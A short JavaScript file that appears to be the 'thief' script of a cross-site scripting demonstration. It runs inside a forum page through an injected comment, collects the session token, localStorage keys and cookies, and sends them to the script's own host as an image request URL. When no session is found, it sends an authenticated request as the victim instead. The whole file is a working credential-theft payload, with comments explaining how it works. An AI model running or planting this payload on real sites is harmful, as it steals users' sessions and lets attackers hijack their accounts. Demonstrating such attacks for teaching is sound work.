'use strict';
/*
 * The script of the thief. A comment brings it into the page of the forum, where it has every right of that page. It
 * is the same in each act.
 */
(() => {
  const { origin, searchParams } = new URL(document.currentScript.src);
  const run = searchParams.get('run');
  const loot = {
    session: localStorage.getItem('session'),
    storedKeys: Object.keys(localStorage),
    cookies: document.cookie,
  };
  // An image may come from any site, so its address can carry anything there.
  new Image().src = `${origin}/dev/heist/loot?run=${run}&loot=${encodeURIComponent(JSON.stringify(loot))}`;
  // Without loot, the script can still send requests from this page, while it is open. The browser adds the cookies.
  if (loot.session === null) void fetch(`/v1/users/me?heist=${run}&as=script`);
})();
